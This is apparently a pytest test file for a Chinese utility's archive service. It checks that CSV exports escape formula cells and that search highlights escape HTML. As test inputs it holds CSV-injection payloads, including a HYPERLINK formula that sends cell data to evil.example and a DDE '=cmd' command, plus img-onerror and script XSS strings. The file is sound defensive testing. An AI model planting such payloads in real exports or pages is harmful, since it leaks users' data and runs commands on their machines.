"""What leaves the service for spreadsheets and browsers cannot run there: every CSV export
neutralises formula cells (OWASP), and highlights escape the page text before marking hits."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime, timedelta

import pytest

from archive.services.spreadsheet import FORMULA_STARTS, safe_cell
from tests import documents
from tests.factories import (
    add_account,
    create_customer,
    create_dossier,
    login,
    upload,
    wait_for_job,
)

ACCOUNT = "3300012345"
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1")


@pytest.fixture(params=["embedded"])
def backend_set(request: pytest.FixtureRequest) -> str:
    return request.param


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_safe_cell_is_owasp_s_rule() -> None:
    for value in FORMULAS:
        assert safe_cell(value) == "'" + value
    assert safe_cell("张伟") == "张伟" and safe_cell(-5) == -5 and safe_cell(None) == ""


def _filed(client, name: str, title: str, doc_date: str = "2015-03-02") -> dict:
    archivist = login(client, "archivist")
    create_customer(client, archivist, ACCOUNT, name=name)
    dossier = create_dossier(client, archivist, ACCOUNT, category="电能计量")["id"]
    accepted = upload(client, archivist, dossier, documents.text_pdf(["换表工作单 拆表示数"]),
                      doc_type="计量装置装拆表工作单", title=title, doc_date=doc_date).json()
    assert wait_for_job(client, archivist, accepted["job_id"])["status"] == "done"
    return accepted


def test_the_audit_export_neutralises_formulas(client) -> None:
    for username in FORMULAS:
        client.post("/api/v1/auth/token", data={"username": username, "password": "x"})
    body = client.get("/api/v1/audit/events", params={"format": "csv", "limit": 1000},
                      headers=login(client, "auditor")).text
    rows = _cells(body)
    _no_formula(rows)
    logged = {row[7] for row in rows[1:]}  # object_id: the name typed at the login
    assert {"'" + name for name in FORMULAS} <= logged


def test_the_destruction_register_neutralises_formulas(client, settings) -> None:
    add_account(settings, "archivist_xh", role="archivist", unit="xh", clearance="受限")
    record = _filed(client, name=FORMULAS[0], title=FORMULAS[3])["record_id"]
    clock = client.app.state.clock
    clock.advance(datetime.combine(date(2046, 1, 2), datetime.min.time(), clock.now().tzinfo)
                  - clock.now() + timedelta(hours=9))
    first, second = login(client, "archivist"), login(client, "archivist_xh")
    proposal = client.post("/api/v1/disposition", headers=first, json={
        "record_id": record, "action": "destroy", "reason": "=cmd|' /C calc'!A0"}).json()
    assert client.post(f"/api/v1/disposition/{proposal['id']}/approve",
                       headers=second).status_code == 200
    body = client.get("/api/v1/disposition/register", params={"format": "csv"},
                      headers=first).text
    rows = _cells(body)
    _no_formula(rows)
    assert rows[1][3] == "'" + FORMULAS[0] and rows[1][5] == "'" + FORMULAS[3]
    assert rows[1][15] == "'=cmd|' /C calc'!A0"


def test_a_transfer_catalogue_neutralises_formulas(client) -> None:
    record = _filed(client, name=FORMULAS[1], title=FORMULAS[0])["record_id"]
    archivist = login(client, "archivist")
    made = client.post("/api/v1/transfers", headers=archivist,
                       json={"receiver": "杭州市档案馆", "record_ids": [record]}).json()
    package = client.get(f"/api/v1/transfers/{made['id']}/package", headers=archivist)
    with zipfile.ZipFile(io.BytesIO(package.content)) as archive:
        name = next(n for n in archive.namelist() if n.endswith("metadata/catalogue.csv"))
        rows = _cells(archive.read(name).decode("utf-8"))
    _no_formula(rows)
    assert rows[1][3] == "'" + FORMULAS[1] and rows[1][6] == "'" + FORMULAS[0]


def test_html_in_page_text_is_escaped_in_highlights(client) -> None:
    archivist = login(client, "archivist")
    create_customer(client, archivist, ACCOUNT)
    dossier = create_dossier(client, archivist, ACCOUNT)["id"]
    page = '用电申请书 <img src=x onerror="alert(1)"> <script>alert(2)</script> 窃电 & 违约'
    accepted = upload(client, archivist, dossier, documents.text_pdf([page]),
                      doc_type="用电申请书").json()
    assert wait_for_job(client, archivist, accepted["job_id"])["status"] == "done"
    clerk = login(client, "clerk")
    for query in ("onerror", "script", "窃电"):
        found = client.get("/api/v1/search", params={"q": query}, headers=clerk).json()
        [highlight] = found["hits"][0]["highlights"]
        text = highlight["text"]
        assert "<img" not in text and "<script" not in text, text
        assert text.replace("<em>", "").replace("</em>", "").count("<") == 0, text
        assert "&lt;" in text and f"<em>{query}</em>" in text, text
